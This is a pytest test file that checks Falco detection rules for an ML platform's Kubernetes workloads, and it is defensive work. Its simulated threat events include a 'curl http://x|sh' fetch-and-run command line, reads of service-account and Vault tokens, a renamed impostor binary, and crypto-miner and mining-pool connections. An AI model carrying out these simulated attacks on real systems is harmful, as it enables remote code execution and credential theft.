"""Falco rules for ML workloads: complete rule entries, valid priorities, every macro and list defined.

Falco itself is not available offline, so references are checked here: a bare identifier in a
condition must be a macro (ours or a stock one), and an `mlplat_` name inside `in (...)` must be a list.
"""

from __future__ import annotations

import re
from typing import Any

import pytest

from tests.support.falco_eval import Rules
from tests.support.obs_helpers import FALCO_RULES, load_yaml, rel

# From falco_rules.yaml shipped with Falco 0.44 (falcosecurity/rules, stable rule set). Keep this in
# step with the Falco chart pin in infra/versions.py; a name missing upstream breaks rule loading.
STOCK_MACROS = {
    "spawned_process",
    "container",
    "open_read",
    "open_write",
    "shell_procs",
    "proc_name_exists",
    "never_true",
}
STOCK_LISTS = {"package_mgmt_binaries", "shell_binaries"}
PRIORITIES = {
    "EMERGENCY",
    "ALERT",
    "CRITICAL",
    "ERROR",
    "WARNING",
    "NOTICE",
    "INFORMATIONAL",
    "INFO",
    "DEBUG",
}
REQUIRED = ("rule", "desc", "condition", "output", "priority", "tags")
OPERATORS = {
    "and", "or", "not", "in", "intersects", "pmatch", "startswith", "endswith", "contains", "icontains",
    "bcontains", "bstartswith", "glob", "iglob", "regex", "exists", "true", "false",
}  # fmt: skip

ITEMS: list[dict[str, Any]] = load_yaml(FALCO_RULES)
WHERE = rel(FALCO_RULES)
RULES = [item for item in ITEMS if "rule" in item]
MACROS = {item["macro"]: item for item in ITEMS if "macro" in item}
LISTS = {item["list"]: item for item in ITEMS if "list" in item}


def references(condition: str) -> tuple[set[str], set[str]]:
    """(bare identifiers, identifiers inside `in (...)`-style groups) of a Falco condition."""
    text = re.sub(r'"(?:[^"\\]|\\.)*"|\'[^\']*\'', '""', condition)
    grouped: set[str] = set()
    for group in re.findall(r"\b(?:in|intersects|pmatch)\s*\(([^()]*)\)", text):
        grouped |= {item.strip() for item in group.split(",") if re.fullmatch(r"\s*[a-z_][\w-]*\s*", item)}
    text = re.sub(r"\b(?:in|intersects|pmatch)\s*\([^()]*\)", " ", text)
    text = re.sub(r"\b(?:startswith|endswith|b?contains|icontains|bstartswith|i?glob|regex)\s+\S+", " ", text)
    text = re.sub(r"\S*[./]\S*", " ", text)  # fields (proc.name, fd.name[...]) and paths
    text = re.sub(r"[<>=!]=?\s*[\w.-]+", " ", text)  # right-hand sides of comparisons
    bare = {word for word in re.findall(r"\b[a-z_][a-z0-9_]*\b", text) if word not in OPERATORS}
    return bare, grouped


def undefined(condition: str) -> list[str]:
    bare, grouped = references(condition)
    missing = [f"macro {m}" for m in sorted(bare - set(MACROS) - STOCK_MACROS)]
    lists = {g for g in grouped if g.startswith("mlplat_") or g in STOCK_LISTS}
    missing += [f"list {g}" for g in sorted(lists - set(LISTS) - STOCK_LISTS)]
    return missing


def test_the_reference_check_can_fail() -> None:
    assert undefined("spawned_process and mlplat_nope and proc.name in (mlplat_missing, bash)") == [
        "macro mlplat_nope",
        "list mlplat_missing",
    ]
    assert undefined("open_read and fd.name startswith /mnt/models/ and evt.res = EINPROGRESS") == []


def test_there_are_rules() -> None:
    assert len(RULES) >= 5, f"{WHERE}: expected the ML workload rules"


@pytest.mark.parametrize("rule", RULES, ids=lambda r: r["rule"])
def test_rule_is_complete(rule: dict[str, Any]) -> None:
    where = f"{WHERE} rule {rule['rule']!r}"
    missing = [key for key in REQUIRED if not rule.get(key)]
    assert not missing, f"{where}: missing {missing}"
    assert str(rule["priority"]).upper() in PRIORITIES, (
        f"{where}: priority {rule['priority']} is not a Falco priority"
    )
    assert rule["rule"].startswith("mlplat "), (
        f"{where}: name our rules `mlplat ...` so alerts and metrics show them"
    )
    assert "mlplat" in rule["tags"], f"{where}: tag the rule `mlplat`"
    # Falcosidekick turns these output fields into the k8s_ns_name/k8s_pod_name labels the alerts use.
    for field in ("%k8s.ns.name", "%k8s.pod.name"):
        assert field in rule["output"], f"{where}: output must include {field}"


@pytest.mark.parametrize("item", [*RULES, *MACROS.values()], ids=lambda i: i.get("rule") or i["macro"])
def test_every_macro_and_list_is_defined(item: dict[str, Any]) -> None:
    missing = undefined(item["condition"])
    name = item.get("rule") or item.get("macro")
    assert not missing, (
        f"{WHERE} {name!r}: undefined {missing} (define it, or add a stock name with its source)"
    )


def test_every_macro_and_list_is_used() -> None:
    conditions = " ".join(item["condition"] for item in [*RULES, *MACROS.values()])
    unused = [name for name in [*MACROS, *LISTS] if not re.search(rf"\b{name}\b", conditions)]
    assert not unused, f"{WHERE}: defined but never used: {unused}"


def test_no_item_shadows_a_stock_name() -> None:
    shadowed = sorted((set(MACROS) & STOCK_MACROS) | (set(LISTS) & STOCK_LISTS))
    assert not shadowed, f"{WHERE}: {shadowed} would silently replace the stock definition"


def test_model_rules_cover_the_threats() -> None:
    text = " ".join(r["condition"] for r in [*RULES, *MACROS.values()])
    for needle in ("shell_procs", "package_mgmt_binaries", "/mnt/models/", "mlplat_miner_binaries",
                   "mlplat_stratum_ports", "serviceaccount", ".vault-token", "mlplat_private_networks"):  # fmt: skip
        assert needle in text, f"{WHERE}: no rule uses {needle}"


# Events as Falco would see them, run through the rules with falco_eval (a small interpreter of
# the condition language): each rule fires on its threat and stays quiet on the look-alike.
ENGINE = Rules(ITEMS)
CONTAINER = {
    "container.id": "3f2a9c1b7d10",  # pragma: allowlist secret
    "evt.num": 7,
    "proc.tty": 0,
    "proc.vpid": 42,
}  # pragma: allowlist secret


def execve(namespace: str, name: str, **fields: Any) -> dict[str, Any]:
    return {**CONTAINER, "evt.type": "execve", "evt.dir": "<", "k8s.ns.name": namespace,
            "proc.name": name, "proc.cmdline": name, **fields}  # fmt: skip


def read(namespace: str, path: str, name: str, **fields: Any) -> dict[str, Any]:
    return {**CONTAINER, "evt.type": "openat", "evt.dir": "<", "evt.is_open_read": "true", "fd.typechar": "f",
            "fd.name": path, "k8s.ns.name": namespace, "proc.name": name, **fields}  # fmt: skip


def connect(namespace: str, ip: str, port: int, name: str = "python3", **fields: Any) -> dict[str, Any]:
    return {**CONTAINER, "evt.type": "connect", "evt.dir": "<", "fd.typechar": "4", "evt.rawres": 0,
            "fd.ip": ip, "fd.sip": ip, "fd.net": ip, "fd.snet": ip, "fd.sport": port,
            "fd.name": f"10.10.3.4:41234->{ip}:{port}", "k8s.ns.name": namespace, "proc.name": name, **fields}  # fmt: skip


SA_TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
IRSA_TOKEN = "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"
VAULT_TOKEN = "/home/vault/.vault-token"
VAULT_IMAGE = {"container.image.repository": "hashicorp/vault"}
# (rule, an event it must flag, a look-alike it must leave alone)
CASES = [
    (
        "mlplat unexpected outbound connection from model namespace",
        connect("models-core-ml", "10.10.40.7", 5432),  # lateral: PostgreSQL of MLflow
        connect("models-core-ml", "172.20.14.9", 9000),  # the storage initializer and MinIO
    ),
    (
        "mlplat vault token read by unexpected process",
        read("vault", VAULT_TOKEN, "vault", **{"proc.exepath": "/tmp/vault", **VAULT_IMAGE}),  # renamed
        read("vault", VAULT_TOKEN, "vault", **{"proc.exepath": "/bin/vault", **VAULT_IMAGE}),
    ),
    (
        "mlplat connection to mining pool",
        connect("models-core-ml", "51.15.58.224", 443, **{"fd.sip.name": "pool.supportxmr.com"}),
        connect("models-core-ml", "52.216.8.1", 8888, **{"fd.sip.name": "notebooks.example.com"}),
    ),
    (
        "mlplat connection on stratum port",
        connect("models-core-ml", "51.15.58.224", 3333),
        connect("models-core-ml", "10.10.40.7", 3333),  # in-cluster
    ),
    (
        "mlplat shell in platform data store",
        execve("vault", "bash", **{"proc.tty": 34816, "proc.pname": "runc"}),  # kubectl exec -it
        execve(
            "vault", "sh", **{"proc.pname": "runc", "proc.cmdline": "sh -ec vault status -tls-skip-verify"}
        ),
    ),
    (
        "mlplat shell in platform data store",
        execve(
            "mlflow", "sh", **{"proc.pname": "postgres", "proc.cmdline": "sh -c curl http://x|sh"}
        ),  # FROM PROGRAM
        execve(
            "mlflow", "sh", **{"proc.pname": "runc", "proc.cmdline": "sh -c -e exec pg_isready -U mlflow"}
        ),
    ),
    (
        "mlplat shell in platform data store",
        execve("minio", "sh", **{"proc.pname": "minio"}),
        execve("monitoring", "sh", **{"proc.tty": 34816, "proc.pname": "runc"}),  # not a data store
    ),
    (
        "mlplat service account token read by unexpected process",
        read("vault-secrets-operator", SA_TOKEN, "cat", **{"proc.vpid": 77}),
        read("vault-secrets-operator", SA_TOKEN, "vault-secrets-operator", **{"proc.vpid": 1}),
    ),
    (
        "mlplat service account token read by unexpected process",
        read("vault", IRSA_TOKEN, "sh", **{"proc.vpid": 90, "proc.exepath": "/bin/busybox", **VAULT_IMAGE}),
        # The Vault server, a child of the chart's `sh -ec` (KMS unseal via IRSA, TokenReview).
        read("vault", IRSA_TOKEN, "vault", **{"proc.vpid": 7, "proc.exepath": "/bin/vault", **VAULT_IMAGE}),
    ),
    (
        "mlplat service account token read by unexpected process",
        read("karpenter", IRSA_TOKEN, "curl", **{"proc.vpid": 31}),
        read("karpenter", IRSA_TOKEN, "controller", **{"proc.vpid": 1}),
    ),
    (
        "mlplat service account token read in model namespace",
        read("models-core-ml", SA_TOKEN, "python3"),
        read("models-core-ml", "/mnt/models/model.pkl", "python3"),
    ),
    (
        "mlplat shell in model server",
        execve("models-core-ml", "bash", **{"proc.vpid": 12}),
        execve("models-core-ml", "bash", **{"proc.vpid": 1}),  # the entrypoint script
    ),
    (
        "mlplat crypto miner launched",
        execve("default", "xmrig"),
        execve("default", "python3", **{"proc.cmdline": "python3 serve.py --stratum-compat"}),
    ),
]


@pytest.mark.parametrize(
    ("rule", "threat", "lookalike"), CASES, ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)]
)
def test_rule_flags_its_threat_and_not_the_lookalike(
    rule: str, threat: dict[str, Any], lookalike: dict[str, Any]
) -> None:
    assert rule in ENGINE.rules, f"{WHERE}: no rule {rule!r}"
    assert rule in ENGINE.fired(threat), f"{WHERE} {rule!r} misses {threat}"
    assert rule not in ENGINE.fired(lookalike), f"{WHERE} {rule!r} fires on {lookalike}"


def _critical(event: dict[str, Any]) -> set[str]:
    return {name for name in ENGINE.fired(event) if ENGINE.rules[name]["priority"].upper() == "CRITICAL"}


def test_lateral_movement_from_a_model_pod_is_flagged() -> None:
    for target, port in (("10.10.40.7", 5432), ("172.20.0.10", 8200), ("10.10.0.10", 443)):
        assert ENGINE.fired(connect("models-core-ml", target, port)), f"{target}:{port} goes unnoticed"


def test_a_renamed_binary_does_not_pass_for_vault() -> None:
    impostor = read(
        "vault",
        VAULT_TOKEN,
        "vault",
        **{"proc.exepath": "/tmp/.x/vault", "container.image.repository": "evil/tools"},
    )
    assert "mlplat vault token read by unexpected process" in ENGINE.fired(impostor)


def test_common_ports_on_the_internet_do_not_page() -> None:
    for port in (4444, 5555, 5556, 7777, 8888, 9999):
        event = connect("data-science", "52.216.8.1", port, "jupyter-lab", **{"fd.sip.name": "example.org"})
        assert not _critical(event), f"port {port}: {_critical(event)} would page security"


def test_the_interpreter_reads_conditions_as_falco_does() -> None:
    event = {"proc.name": "bash", "fd.snet": "10.1.2.3", "evt.dir": "<", "fd.sport": 3333}
    assert ENGINE.matches("proc.name in (shell_binaries) and not proc.name = sh", event)
    assert ENGINE.matches('fd.snet in ("10.0.0.0/8") and evt.dir=<', event)
    assert not ENGINE.matches("proc.pname exists or fd.sport in (mlplat_model_egress_ports)", event)
    assert ENGINE.matches("(proc.name = sh or proc.name = bash) and fd.sport >= 3000", event)
